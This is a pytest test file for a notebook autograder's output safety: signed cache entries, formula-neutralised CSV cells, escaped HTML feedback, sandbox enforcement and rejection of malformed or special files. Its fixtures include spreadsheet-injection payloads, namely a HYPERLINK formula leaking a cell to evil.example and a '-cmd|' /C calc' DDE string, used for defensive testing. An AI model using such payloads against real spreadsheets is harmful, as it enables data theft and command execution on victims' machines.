"""What the grader writes outside the sandbox stays trustworthy: signed cache entries, CSV cells no spreadsheet runs
as formulas, empty scores (and exit status 3) when the grader failed, and broken notebooks reported as such."""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import stat
from pathlib import Path

import pytest

from utils.grading import gradebook as gradebook_module
from utils.grading.cache import MAC_FIELD, SECRET_NAME, CacheSigner
from utils.grading import cli as cli_module
from utils.grading.cli import EXIT_GRADER_ERROR, EXIT_NO_SANDBOX, NO_SANDBOX_WARNING, main
from utils.grading.feedback import feedback_html
from utils.grading.gradebook import Gradebook, Submission
from utils.grading.grader import Options
from utils.grading.notebook import parse_lab
from utils.grading.sandbox import SandboxUnavailable
from utils.grading.spreadsheet import safe_cell
from utils.grading.submission import MAX_BYTES, parse_submission, read_submission

FIXTURES = Path(__file__).parent / "fixtures" / "grading" / "solutions"
LAB = parse_lab("labdemo", FIXTURES / "labdemo" / "labdemo.ipynb")
RESULT = {"status": "graded", "message": "", "score": 5.0, "max_score": 7.0, "cells": [],
          "questions": [{"question": "test_square", "score": 1.0, "max_score": 1.0, "status": "passed", "message": ""}]}


# --- cache ----------------------------------------------------------------------------------------------------------


def test_cache_entries_verify_only_unchanged_and_under_their_own_name(tmp_path):
    signer = CacheSigner(tmp_path)
    text = signer.seal("a.json", RESULT)
    assert signer.open("a.json", text) == RESULT
    assert stat.S_IMODE((tmp_path / SECRET_NAME).stat().st_mode) == 0o600
    assert signer.open("b.json", text) is None  # a classmate's entry copied under my name
    edited = json.loads(text) | {"score": 7.0}
    assert signer.open("a.json", json.dumps(edited)) is None
    unsigned = {k: v for k, v in json.loads(text).items() if k != MAC_FIELD}
    assert signer.open("a.json", json.dumps(unsigned)) is None
    assert signer.open("a.json", "not json") is None and signer.open("a.json", "[1]") is None
    assert CacheSigner(tmp_path).open("a.json", text) == RESULT  # the secret persists for the next run
    assert CacheSigner(tmp_path / "other").open("a.json", text) is None  # another folder, another secret


def test_a_secret_readable_by_others_or_a_symlink_is_replaced(tmp_path):
    text = CacheSigner(tmp_path).seal("a.json", RESULT)
    (tmp_path / SECRET_NAME).chmod(0o644)
    assert CacheSigner(tmp_path).open("a.json", text) is None
    assert stat.S_IMODE((tmp_path / SECRET_NAME).stat().st_mode) == 0o600
    elsewhere = tmp_path / "known-secret"
    elsewhere.write_text("00" * 32)
    elsewhere.chmod(0o600)
    (tmp_path / SECRET_NAME).unlink()
    (tmp_path / SECRET_NAME).symlink_to(elsewhere)
    forged = CacheSigner(tmp_path)
    assert forged.key() != bytes(32) and not (tmp_path / SECRET_NAME).is_symlink()


def test_a_forged_or_tampered_cache_entry_is_graded_again(tmp_path, monkeypatch):
    calls = []

    def grade_notebook(lab, data, *args):
        calls.append(data)
        return copy.deepcopy(RESULT)
    monkeypatch.setattr(gradebook_module, "grade_notebook", grade_notebook)
    monkeypatch.setattr(gradebook_module, "job_options", lambda *args: None, raising=False)
    monkeypatch.setattr(Gradebook, "server", lambda self, scratch: None, raising=False)
    notebook = tmp_path / "alice.ipynb"
    notebook.write_bytes(LAB.path.read_bytes())
    book = Gradebook(LAB, tmp_path / "out", Options())
    alice = Submission("alice", notebook)
    assert book.grade_one(alice, tmp_path, 0) == (RESULT, False)
    assert book.grade_one(alice, tmp_path, 0) == (RESULT, True) and len(calls) == 1
    entry = book.cache_path(notebook.read_bytes())
    entry.write_text(json.dumps(json.loads(entry.read_text()) | {"score": 7.0}))  # tampered
    assert book.grade_one(alice, tmp_path, 0) == (RESULT, False) and len(calls) == 2
    entry.write_text(json.dumps(RESULT | {"score": 7.0}))  # forged from scratch, without the secret
    assert book.grade_one(alice, tmp_path, 0)[1] is False and len(calls) == 3


# --- CSV and feedback ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value, numeric, expected", [
    ("=HYPERLINK(\"http://evil\",\"x\")", False, "'=HYPERLINK(\"http://evil\",\"x\")"),
    ("+1+1", False, "'+1+1"), ("-2+3", False, "'-2+3"), ("@SUM(A1)", False, "'@SUM(A1)"),
    ("\t=1", False, "'\t=1"), ("\r=1", False, "'\r=1"), ("  =1", False, "'  =1"), ("\uff1d1+1", False, "'\uff1d1+1"),
    ("a = b", False, "a = b"), ("", False, ""), ("'=x", False, "'=x"),
    (-1.5, True, -1.5), ("-1.5", True, "-1.5"), ("3", True, "3"), ("", True, ""), ("-1+1", True, "'-1+1"),
    (-1.5, False, "'-1.5"),
])
def test_csv_cells_never_start_like_a_formula(value, numeric, expected):
    assert safe_cell(value, numeric) == expected


def test_the_gradebook_csvs_neutralise_formulas_but_feedback_keeps_answers_verbatim(tmp_path):
    answer = '=HYPERLINK("http://evil.example/?"&A1, "click") <b>bold</b>' + " and more" * 500  # longer than a message
    result = {"status": "needs-reading", "message": "", "score": 1.0, "max_score": 2.0, "cells": [], "questions": [
        {"question": "test_square", "score": 1.0, "max_score": 1.0, "status": "failed", "message": "@SUM(1+1)"},
        {"question": "explain", "score": 0.0, "max_score": 1.0, "status": "needs-reading", "message": answer[:2000],
         "answer": answer}]}
    book = Gradebook(LAB, tmp_path, Options())
    name = "-cmd|' /C calc'!A0"
    book.write_outputs([Submission(name, tmp_path / "x.ipynb")], {name: result}, [name])
    cells = [cell for file in ("grades.csv", "summary.csv", "written.csv")
             for row in csv.reader(io.StringIO((tmp_path / file).read_text())) for cell in row]
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    written = list(csv.DictReader(io.StringIO((tmp_path / "written.csv").read_text())))
    assert written[0]["answer"] == "'" + answer
    summary = list(csv.DictReader(io.StringIO((tmp_path / "summary.csv").read_text())))
    assert summary[0]["score"] == "1.0" and summary[0]["submission"] == "'" + name
    html = (tmp_path / "feedback" / f"{name}.html").read_text()
    assert ("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1, &quot;click&quot;) &lt;b&gt;bold&lt;/b&gt;"
            + " and more" * 500 + "</pre>") in html
    assert "'=HYPERLINK" not in html and "<b>bold" not in html
    assert feedback_html(name, "labdemo", result) == html


def test_grader_errors_leave_the_score_empty_and_grade_exits_with_3(tmp_path, monkeypatch, capsys):
    failure = Gradebook(LAB, tmp_path / "out", Options())._failure("the grader failed: RuntimeError", "grader-error")
    submission = tmp_path / "bob.ipynb"
    submission.write_bytes(LAB.path.read_bytes())

    def run(self, submissions):
        results = {s.name: failure for s in submissions}
        self.out.mkdir(parents=True, exist_ok=True)
        self.write_outputs(submissions, results, [s.name for s in submissions])
        return results
    monkeypatch.setattr(Gradebook, "run", run)
    code = main(["grade", "--lab", "labdemo", "--solutions", str(FIXTURES), "--out", str(tmp_path / "out"),
                 "--no-sandbox", str(submission)])
    captured = capsys.readouterr()
    assert code == EXIT_GRADER_ERROR == 3
    assert NO_SANDBOX_WARNING in captured.err and "grader failed on 1 submission" in captured.err
    assert "? / 7  grader-error" in captured.out
    summary = list(csv.DictReader(io.StringIO((tmp_path / "out" / "summary.csv").read_text())))
    grades = list(csv.DictReader(io.StringIO((tmp_path / "out" / "grades.csv").read_text())))
    assert summary[0]["score"] == "" and summary[0]["status"] == "grader-error"
    assert {row["score"] for row in grades} == {""} and {row["max_score"] for row in grades} != {""}


def test_grade_refuses_to_run_without_the_sandbox_and_names_the_package(tmp_path, monkeypatch, capsys):
    def unavailable():
        raise SandboxUnavailable("the grader's sandbox needs bubblewrap (bwrap), which is not installed: install "
                                 "the Debian package bubblewrap")
    monkeypatch.setattr(cli_module, "check_sandbox", unavailable)
    monkeypatch.setattr(Gradebook, "run", lambda self, submissions: pytest.fail("graded without a sandbox"))
    code = main(["grade", "--lab", "labdemo", "--solutions", str(FIXTURES), "--out", str(tmp_path / "out"),
                 str(LAB.path)])
    assert code == EXIT_NO_SANDBOX == 4
    assert "bubblewrap" in capsys.readouterr().err


# --- broken notebooks ---------------------------------------------------------------------------------------------


def _with(edit) -> bytes:
    notebook = copy.deepcopy(LAB.notebook)
    edit(notebook)
    return json.dumps(notebook).encode()


def _set_id(index, value):
    def edit(notebook):
        notebook["cells"][index]["id"] = value
    return edit


def _grade_id(value):
    def edit(notebook):
        next(c for c in notebook["cells"] if "nbgrader" in c["metadata"])["metadata"]["nbgrader"]["grade_id"] = value
    return edit


def _nested(depth):
    def edit(notebook):
        notebook["metadata"]["deep"] = json.loads("[" * depth + "]" * depth)
    return edit


def _many_cells(notebook):
    notebook["cells"] += [{"cell_type": "raw", "id": f"c{i}", "metadata": {}, "source": ""} for i in range(100_000)]


@pytest.mark.parametrize("data, words", [
    (_with(_set_id(0, ["a", "list"])), "cell ids are not text"),
    (_with(_set_id(0, {"a": 1})), "cell ids are not text"),
    (_with(_set_id(1, LAB.cells[0]["id"])), "share the id"),
    (_with(_grade_id(["x"])), "grade_id is not text"),
    (_with(_nested(150)), "nested more than 100 levels"),
    (b"[" * 200_000 + b"]" * 200_000, "nested too deeply"),
    (b'{"nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": []}]}', "old format version 3"),
    (_with(_many_cells), "at most 2000"),
    (b'{"nbformat": 4, "cells": [], "x": ' + b"1" * 10_000 + b"}", "not valid JSON"),
])
def test_broken_notebooks_are_invalid_with_a_message_not_a_grader_error(data, words):
    notebook, status, message = parse_submission(data, LAB)
    assert notebook is None and status == "invalid-notebook" and words in message, message


def test_a_valid_notebook_with_unusual_but_legal_content_is_accepted():
    notebook, status, _ = parse_submission(_with(_nested(50)), LAB)
    assert status == "" and notebook is not None


def test_huge_or_special_files_are_not_read(tmp_path):
    huge = tmp_path / "huge.ipynb"
    with open(huge, "wb") as handle:
        handle.truncate(MAX_BYTES + 1)  # sparse: costs no disk
    data, message = read_submission(huge)
    assert data is None and "larger than 32 MB" in message
    fifo = tmp_path / "fifo.ipynb"
    os.mkfifo(fifo)
    data, message = read_submission(fifo)  # would block forever if it were read
    assert data is None and "not a regular file" in message
    link = tmp_path / "link.ipynb"
    link.symlink_to(LAB.path)  # e.g. unpacked from a student's archive, pointing at the solutions
    data, message = read_submission(link)
    assert data is None and "symbolic link" in message
    assert read_submission(LAB.path) == (LAB.path.read_bytes(), "")
    book = Gradebook(LAB, tmp_path / "out", Options())
    result, cached = book.grade_one(Submission("huge", huge), tmp_path, 0)
    assert result["status"] == "invalid-notebook" and not cached
